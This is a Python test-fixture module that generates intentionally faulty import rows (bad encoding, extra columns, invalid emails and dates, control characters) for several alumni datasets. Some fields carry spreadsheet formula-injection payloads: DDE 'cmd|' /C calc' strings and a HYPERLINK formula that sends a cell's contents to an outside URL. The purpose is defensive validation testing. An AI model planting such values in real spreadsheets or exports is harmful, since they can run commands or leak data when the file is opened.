"""Rows that are bad on purpose: each takes a good row's values and returns a record with exactly one fault."""

from collections.abc import Callable
from functools import partial

from deploy.local.data.layouts import Layout

Values = dict[str, str]
Fault = Callable[[Layout, Values], bytes]

NOT_UTF_8 = b"\xff\xfe"


def with_value(field: str, value: str, layout: Layout, values: Values) -> bytes:
    """The row with another value; `name` stands for the family name where the layout has one column."""
    changed = values | {field: value}
    if "name" in layout.field_names and field in ("family_name", "given_name"):
        changed["name"] = _full_name(field, value, values["name"])
    return layout.encode_record(layout.order_cells(changed))


def column_more(layout: Layout, values: Values) -> bytes:
    return layout.encode_record([*layout.order_cells(values), "?"])


def without_name(layout: Layout, values: Values) -> bytes:
    nameless = values | {"name": " ", "family_name": "", "given_name": "  "}
    return layout.encode_record(layout.order_cells(nameless))


def broken_bytes(layout: Layout, values: Values) -> bytes:
    """Bytes that are no UTF-8 within the name."""
    return with_value("family_name", "BROKENx", layout, values).replace(b"BROKEN", NOT_UTF_8)


def _full_name(field: str, value: str, name: str) -> str:
    family, given = name.split(", ", 1)
    return f"{value}, {given}" if field == "family_name" else f"{family}, {value}"


def _replaced_value(field: str, value: str) -> Fault:
    return partial(with_value, field, value)


HYPERLINK = '=HYPERLINK("https://example.org/?"&A1;"Profil")'
FAULTS: dict[str, tuple[tuple[str, Fault], ...]] = {
    "diplomaten": (
        ("encoding", broken_bytes),
        ("columns", column_more),
        ("name-missing", without_name),
        ("email-invalid", _replaced_value("email", "botschaft(at)example.org")),
        ("country-unknown", _replaced_value("origin", "Absurdistan")),
        ("date-invalid", _replaced_value("completed_on", "2019-02-30")),
        ("cohort-invalid", _replaced_value("cohort", "1899")),
        ("control-character", _replaced_value("given_name", "An\x00na")),
        ("formula", _replaced_value("family_name", HYPERLINK)),
    ),
    "ips": (
        ("columns", column_more),
        ("email-missing", _replaced_value("email", "")),
        ("email-invalid", _replaced_value("email", "anna maria@example.net")),
        ("country-unknown", _replaced_value("origin", "Jugoslawien")),
        ("date-invalid", _replaced_value("completed_on", "2011-07-29")),
        ("cohort-invalid", _replaced_value("cohort", "2099")),
        ("too-long", _replaced_value("family_name", "Müller-" * 40 + "Ende")),
        ("formula", _replaced_value("family_name", "+cmd|' /C calc'!A0")),
        ("name-missing", without_name),
    ),
    "unternehmer": (
        ("formula", _replaced_value("branch", "@SUM(1+1)*cmd|' /C calc'!A0")),
        ("email-missing", _replaced_value("email", " ")),
        ("country-unknown", _replaced_value("residence", "Sowjetunion")),
        ("cohort-invalid", _replaced_value("cohort", "zwanzig")),
        ("columns", column_more),
        ("encoding", broken_bytes),
    ),
    "daad": (
        ("name-missing", without_name),
        ("columns", column_more),
        ("date-invalid", _replaced_value("completed_on", "31/02/2015")),
        ("email-invalid", _replaced_value("email", "first@second@example.com")),
        ("too-long", _replaced_value("family_name", "Anna" * 60)),
        ("control-character", _replaced_value("family_name", "O\x00Brien")),
        ("encoding", broken_bytes),
        ("formula", _replaced_value("family_name", HYPERLINK)),
    ),
    "humboldt": (
        ("email-missing", _replaced_value("email", "")),
        ("country-unknown", _replaced_value("origin", "ZZZ")),
        ("date-invalid", _replaced_value("completed_on", "2016-13-01")),
        ("cohort-invalid", _replaced_value("cohort", "3")),
        ("formula", _replaced_value("given_name", "-2+3+cmd|' /C calc'!A0")),
        ("encoding", broken_bytes),
        ("name-missing", without_name),
        ("columns", column_more),
    ),
}
